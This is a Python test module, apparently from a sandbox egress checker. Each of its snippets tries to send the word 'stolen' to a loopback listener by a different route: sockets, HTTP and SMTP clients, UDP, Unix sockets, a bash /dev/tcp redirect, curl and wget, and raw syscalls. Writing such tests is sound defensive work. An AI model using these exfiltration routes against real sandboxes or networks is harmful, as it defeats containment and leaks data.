"""Word to somebody outside: on the loopback interface alone, where the test listens."""

from .submission import SEEN, SENT, Group

group = Group("network")

group.code(
    "a connection",
    SENT,
    top="""
import asyncio, socket, urllib.request, http.client, smtplib, ftplib, xmlrpc.client
def raw(family, address):
    def way():
        with socket.socket(family, socket.SOCK_STREAM) as line:
            line.settimeout(2)
            line.connect(address)
            line.sendall(b"stolen")
    return way
async def later():
    reader, writer = await asyncio.open_connection("127.0.0.1", @PORT@)
    writer.write(b"stolen")
    writer.close()
for way in (raw(socket.AF_INET, ("127.0.0.1", @PORT@)), raw(socket.AF_INET6, ("::ffff:127.0.0.1", @PORT@)),
            lambda: urllib.request.urlopen("http://127.0.0.1:@PORT@/stolen", timeout=2),
            lambda: http.client.HTTPConnection("127.0.0.1", @PORT@, timeout=2).request("POST", "/", "stolen"),
            lambda: get_ipython().run_cell("await later()"), lambda: asyncio.run(later()),
            lambda: smtplib.SMTP("127.0.0.1", @PORT@, timeout=2)):
    try:
        way()
    except BaseException:
        pass
""",
)

group.code(
    "a datagram",
    SENT,
    first="""
import socket
for flags in (socket.SOCK_DGRAM, socket.SOCK_DGRAM | socket.SOCK_NONBLOCK):
    try:
        socket.socket(socket.AF_INET, flags).sendto(b"stolen", ("127.0.0.1", @PORT@))
    except OSError:
        pass
""",
)

group.code(
    "unix sockets",
    SENT,
    top="""
import socket
for address in ("@OUTSIDE@/listen.sock", "\\0@TOKEN@"):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(socket.AF_UNIX, kind) as line:
                line.settimeout(2)
                line.connect(address)
                line.sendall(b"stolen")
        except OSError:
            pass
""",
)

group.code(
    "a command",
    SENT,
    last="""
import subprocess
for command in ("exec 3<>/dev/tcp/127.0.0.1/@PORT@; echo stolen >&3", "curl -m 2 http://127.0.0.1:@PORT@/",
                "wget -T 2 -O- http://127.0.0.1:@PORT@/", "python3 -m urllib.request"):
    try:
        subprocess.run(["bash", "-c", command], timeout=5)
    except BaseException:
        pass
get_ipython().system("bash -c 'exec 3<>/dev/tcp/127.0.0.1/@PORT@; echo stolen >&3'")
""",
)

group.code(
    "a listener",
    SEEN,
    top="""
import socket
for family, address in ((socket.AF_INET, ("127.0.0.1", 0)), (socket.AF_UNIX, "own"), (socket.AF_UNIX, "\\0@TOKEN@x")):
    try:
        line = socket.socket(family, socket.SOCK_STREAM)
        line.bind(address)
        line.listen()
        loot("listens", line.getsockname())
    except OSError:
        pass
for family, kind in ((socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_NETLINK, socket.SOCK_RAW)):
    try:
        socket.socket(family, kind).bind(("lo", 0) if family == socket.AF_PACKET else (0, 0))
        loot("raw")
    except OSError:
        pass
""",
)

group.code(
    "system calls of the network",
    SENT,
    top="""
import ctypes, os, socket, struct
libc = ctypes.CDLL(None, use_errno=True)
if os.uname().machine == "x86_64":
    number = libc.syscall(41, 2, 1, 0)
    if number >= 0:
        address = struct.pack("=HH4s8x", 2, socket.htons(@PORT@), bytes([127, 0, 0, 1]))
        if libc.syscall(42, number, address, 16) == 0:
            os.write(number, b"stolen")
""",
)
